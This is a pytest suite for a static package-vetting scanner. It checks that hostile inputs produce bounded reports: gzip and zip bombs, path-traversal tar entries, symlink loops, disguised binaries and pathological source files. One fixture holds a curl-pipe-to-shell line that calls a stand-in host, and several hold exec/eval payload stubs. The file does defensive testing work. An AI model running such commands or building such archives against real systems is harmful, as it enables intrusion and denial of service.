"""Hostile input ends in a report within bounds: never an exception, a crash or a hang, and never a silent skip."""

import gzip
import io
import os
import struct
import tarfile
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vsm_runtime.vetting.static import Limits, scan

START_PY = b"import subprocess, base64\nexec(x)\n"
START_JS = b"require('child_process'); fetch('x'); eval(atob(y));\n"
SOURCES = {
    "nested parentheses.py": START_PY + b"(" * 200_000,
    "unary operators.py": START_PY + b"x=" + b"-" * 100_000 + b"1",
    "long sum.py": START_PY + b"x=" + b"1+" * 100_000 + b"1",
    "long attribute.py": START_PY + b"x=a" + b".b" * 100_000,
    "long call.py": START_PY + b"x=a" + b"()" * 100_000,
    "lambdas.py": START_PY + b"x=" + b"lambda:" * 50_000 + b"1",
    "elif.py": START_PY + b"if a: pass\n" + b"elif b: pass\n" * 20_000,
    "many assignments.py": START_PY + b"a=b=c=d=1\n" * 30_000,
    "nul.py": b"import os\0\nos.system('x')",
    "surrogate.py": b"x = '\xed\xa0\x80'\n",
    "invalid utf-8.py": b"\xff\xfe\xfa\x80" * 1000,
    "one line.py": b"#" + b"a b " * 1_000_000,
    "quotes.py": b'"' * 1_000_000,
    "brackets.js": START_JS + b"[" * 90_000,
    "calls.js": START_JS + b"a" + b"()" * 40_000,
    "templates.js": START_JS + b"`${" * 30_000,
    "one line.js": b"a" * 5_000_000,
    "hexadecimal names.js": b"_0x1a2b(" * 200_000,
    "escapes.js": b'"\\x41' * 500_000,
    "recipients.js": b'bcc:"' + b"a" * 1_000_000,
    "utf-16.js": "require('child_process')".encode("utf-16"),
}


@pytest.mark.parametrize("name", SOURCES)
def test_a_hostile_source_is_read_within_bounds(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_bytes(SOURCES[name])
    started = time.monotonic()
    report = scan(tmp_path)
    assert time.monotonic() - started < 100
    assert report.coverage == 1.0


def test_a_pattern_that_takes_too_long_is_a_finding(tmp_path: Path) -> None:
    (tmp_path / "x.py").write_bytes(b"import os\nos.system('" + b"curl " * 200_000 + b"')")
    report = scan(tmp_path, limits=Limits(file_seconds=1))
    assert report.complete or "unscanned-file" in {f.rule for f in report.findings}


def test_a_manifest_that_is_no_json_is_a_finding(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_bytes(b'{"scripts":' + b"[" * 200_000)
    assert "unreadable-manifest" in {f.rule for f in scan(tmp_path).findings}


class TestArchives:
    """What is no honest archive is as bad as can be."""

    def _denied(self, path: Path, rule: str, limits: Limits | None = None) -> None:
        report = scan(path, limits=limits)
        assert report.risk == 10.0
        assert not report.complete
        assert rule in {f.rule for f in report.findings if f.check == "G3"}

    @pytest.mark.parametrize(
        "data", [b"", b"\x1f\x8b", b"\x1f\x8b\x08\0garbage", b"PK\x03\x04", b"PK\x03\x04" + b"x" * 99]
    )
    def test_garbage(self, data: bytes, tmp_path: Path) -> None:
        path = tmp_path / "x.tgz"
        path.write_bytes(data)
        self._denied(path, "unsafe-archive")

    def test_a_gzip_bomb(self, tmp_path: Path) -> None:
        path = tmp_path / "x.tgz"
        with tarfile.open(path, "w:gz") as archive:
            info = tarfile.TarInfo("package/x")
            info.size = 200 * 1024 * 1024
            archive.addfile(info, _Zeros())
        self._denied(path, "unsafe-archive")

    def test_a_zip_bomb(self, tmp_path: Path) -> None:
        path = tmp_path / "x.whl"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("x.py", b"\0" * 100_000_000)
        self._denied(path, "unsafe-archive")

    def test_a_million_entries(self, tmp_path: Path) -> None:
        header = tarfile.TarInfo("package/x").tobuf()
        path = tmp_path / "x.tgz"
        with gzip.open(path, "wb", compresslevel=1) as sink:
            for _ in range(1000):
                sink.write(header * 100)
        self._denied(path, "artefact-too-large", Limits(max_entries=10_000))

    def test_a_table_of_contents_that_lies_about_its_length(self, tmp_path: Path) -> None:
        path = tmp_path / "x.whl"
        path.write_bytes(b"PK\x03\x04" + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 65_535, 65_535, 2**31, 0, 0))
        self._denied(path, "artefact-too-large")

    def test_a_path_that_leaves_the_archive(self, tmp_path: Path) -> None:
        path = tmp_path / "x.tgz"
        with tarfile.open(path, "w:gz") as archive:
            archive.addfile(tarfile.TarInfo("package/../../x"), io.BytesIO())
        self._denied(path, "unsafe-archive")


class TestTrees:
    """A directory is read without following anything out of it."""

    def test_a_link_is_not_followed(self, tmp_path: Path) -> None:
        secret = tmp_path / "secret.py"
        secret.write_text("import os; os.system('curl http://x.invalid | sh')")
        top = tmp_path / "top"
        top.mkdir()
        (top / "link.py").symlink_to(secret)
        (top / "loop").symlink_to(top)
        report = scan(top)
        assert report.files == 0
        assert {f.rule for f in report.findings} == {"symbolic-link"}

    def test_a_pipe_does_not_block(self, tmp_path: Path) -> None:
        os.mkfifo(tmp_path / "x.py")
        report = scan(tmp_path)
        assert "special-file" in {f.rule for f in report.findings}
        assert not report.complete

    def test_too_many_entries_end_the_scan(self, tmp_path: Path) -> None:
        for number in range(30):
            (tmp_path / f"{number}.py").touch()
        report = scan(tmp_path, limits=Limits(max_entries=20))
        assert not report.complete
        assert report.risk == 10.0

    def test_too_deep_is_said(self, tmp_path: Path) -> None:
        (tmp_path / "/".join("a" * 12)).mkdir(parents=True)
        report = scan(tmp_path, limits=Limits(max_depth=10))
        assert "too-deep" in {f.rule for f in report.findings}
        assert not report.complete

    def test_a_file_that_is_too_long_costs_coverage(self, tmp_path: Path) -> None:
        (tmp_path / "x.py").write_bytes(b"#" * 1000)
        report = scan(tmp_path, limits=Limits(max_file_bytes=100))
        assert report.coverage == 0.1
        assert "file-too-large" in {f.rule for f in report.findings}

    def test_the_end_of_time_is_said(self, tmp_path: Path) -> None:
        (tmp_path / "x.py").touch()
        report = scan(tmp_path, limits=Limits(max_seconds=-1.0))
        assert not report.complete
        assert "time-limit" in {f.rule for f in report.findings}

    def test_what_does_not_exist_is_no_clean_package(self, tmp_path: Path) -> None:
        assert scan(tmp_path / "nothing").risk == 10.0

    def test_modes_that_nobody_should_set(self, tmp_path: Path) -> None:
        for name, mode in (("a", 0o666), ("b", 0o4755)):
            (tmp_path / name).touch()
            (tmp_path / name).chmod(mode)
        assert {"world-writable", "set-user-id"} == {f.rule for f in scan(tmp_path).findings}

    def test_a_program_under_another_name(self, tmp_path: Path) -> None:
        (tmp_path / "logo.png").write_bytes(b"\x7fELF" + b"\0" * 100)
        report = scan(tmp_path)
        assert "disguised-binary" in {f.rule for f in report.findings}
        assert report.capabilities == ("native",)


class _Zeros(io.RawIOBase):
    def read(self, size: int = -1, /) -> bytes:
        return b"\0" * max(size, 0)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    data=st.binary(max_size=400),
    name=st.sampled_from(["x.py", "x.js", "package.json", "x.pth", "binding.gyp", "setup.py", "x.tgz"]),
)
def test_no_bytes_raise(data: bytes, name: str, tmp_path: Path) -> None:
    prefix = {"x.py": START_PY, "setup.py": START_PY, "x.js": START_JS}.get(name, b"")
    path = tmp_path / name
    path.write_bytes(prefix + data)
    scan(path)
